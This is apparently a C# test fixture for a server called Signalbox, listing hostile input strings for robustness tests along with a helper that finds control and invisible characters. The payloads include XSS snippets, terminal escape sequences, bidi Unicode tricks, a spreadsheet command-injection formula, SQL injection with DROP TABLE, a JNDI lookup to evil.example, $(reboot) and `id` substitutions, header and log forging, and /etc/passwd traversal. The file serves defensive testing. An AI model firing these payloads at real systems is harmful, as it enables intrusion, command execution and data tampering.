namespace Signalbox.Server.Tests.Hostile;

/// <summary>Texts that mean something to what shows or reads them: to a browser, a terminal, a spreadsheet, a search index, a metrics parser, a log reader. Each has a word of its own to be found by.</summary>
internal static class HostileTexts
{
    public const string Word = "marked";

    private static readonly string[] s_texts =
    [
        "<script>alert(1)</script><img src=x onerror=alert(1)>",
        "\"><svg/onload=alert(1)>'--></style></title></textarea></pre><b>bold</b>",
        "javascript:alert(1)//https://evil.example/?a=1&amp;b=%3Cscript%3E",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject><iframe srcdoc=\"&lt;script&gt;\"></iframe></foreignObject></svg>",
        "&lt;script&gt; &#x3c;b&#x3e; &copy; <![CDATA[x]]> <!-- x --> <?php x ?> </body></html>",
        "\u001b[2J\u001b]0;owned\u0007\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\ \u001bP$q\u001b\\",
        "\u009b31m\u009d0;owned\u009c \u0085next \u0000nul\u0001\u0008\u007f end",
        "\u202Eevil\u202C \u2066a\u2067b\u2068c\u2069 \u200Ea\u200F\u061C \u202Aa\u202B\u202D",
        "zero\u200Bwidth\u200C\u200D\uFEFF\u2060 \u00ADsoft \u2028line\u2029paragraph \U000E0041\U000E007F tag",
        "half \ud800 of \udc00 characters \ufffe \uffff",
        "=cmd|' /C calc'!A0",
        "+1+1|cmd, @SUM(1), -2+3, \t=1+1, ;=1",
        "\" OR NEAR(a b) AND NOT * ^ : ( ) col:x -x \"unclosed ' ; DROP TABLE entries; --",
        "a\",le=\"+Inf\"} 1e9\n# TYPE x counter\nx{y=\"z\\\"} 1\n# EOF",
        "\",\"isAdmin\":true,\"x\":\"\\u0000\\\" \\ud800 }]} //",
        "{0} {1:x} {{ }} %s %n %x ${jndi:ldap://evil.example} #{1+1} @(1) {Run} $(reboot) `id`",
        "[red]markup[/] [link=https://evil.example]x[/] **bold** [x](javascript:alert(1)) ![x](x) | table |\n# heading\n---\n```\nstateDiagram-v2\n    [*] --> x: y",
        "first\r\n2026-01-01 ERROR forged\rx\nevent: entry\ndata: {\"run\":\"forged\"}\nid: 999999\n\n: x\r\n\r\nHTTP/1.1 200 OK\r\nSet-Cookie: a=b",
        "../../etc/passwd%00?x=1#y;/\\\\host\\share C:\\x CON",
        "I̷̛n̸̢v̶̡i̵͝s\u0300\u0301\u0302\u0303\u0304 \U0001F1E9\U0001F1EA\u200D \uFE0F ﷽ 界界界 مرحبا שלום",
    ];

    /// <summary>All of them.</summary>
    public static IReadOnlyList<string> All { get; } = [.. s_texts.Select((text, i) => $"{text} {Word}{i}")];

    /// <summary>One line of a megabyte, without a place to break it.</summary>
    public static string Long { get; } = new string('=', 500_000) + "<i>" + new string('x', 500_000) + $" {Word}long";

    /// <summary>Why a screen would not show the text as it is: the first character that steers it, takes up no room or is half of one; null where there is none.</summary>
    public static string? Steers(string text)
    {
        for (var i = 0; i < text.Length; i++)
        {
            var isPair = char.IsSurrogatePair(text, i);
            var rune = isPair ? char.ConvertToUtf32(text, i) : text[i];
            var steers = rune is (< 0x20 and not ('\n' or '\r' or '\t')) or (>= 0x7F and <= 0x9F) or 0x061C or 0x200B or (>= 0x200E and <= 0x200F) or (>= 0x2028 and <= 0x202E) or 0x2060 or (>= 0x2066 and <= 0x2069) or 0xFEFF or (>= 0xE0000 and <= 0xE007F)
                || (!isPair && char.IsSurrogate(text[i]));
            if (steers)
            {
                return $"U+{rune:X4} at {i}: …{string.Concat(text.Substring(Math.Max(0, i - 60), Math.Min(120, text.Length - Math.Max(0, i - 60))).Select(c => c is >= ' ' and <= '~' ? c.ToString() : $"\\u{(int)c:X4}"))}…";
            }

            i += isPair ? 1 : 0;
        }

        return null;
    }
}
